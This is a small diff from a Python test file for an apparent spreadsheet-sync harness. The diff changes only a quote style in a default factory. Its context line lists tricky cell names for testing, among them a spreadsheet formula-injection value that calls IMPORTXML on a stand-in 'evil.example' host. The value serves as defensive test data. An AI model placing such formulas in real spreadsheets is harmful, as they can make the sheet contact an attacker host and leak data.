@@ -28,7 +28,7 @@ NAMES = ('=IMPORTXML("https://evil.example")', "Été 🏖", "'quoted", "00123",
 class SheetsWorld:
     """One spreadsheet, and jobs that push into it."""
 
-    world: World = field(default_factory=lambda: World(SheetsFake(lambda token, *_: TOKENS.get(token or ''))))
+    world: World = field(default_factory=lambda: World(SheetsFake(lambda token, *_: TOKENS.get(token or ""))))
     spreadsheet: str = BOOK
 
     @property
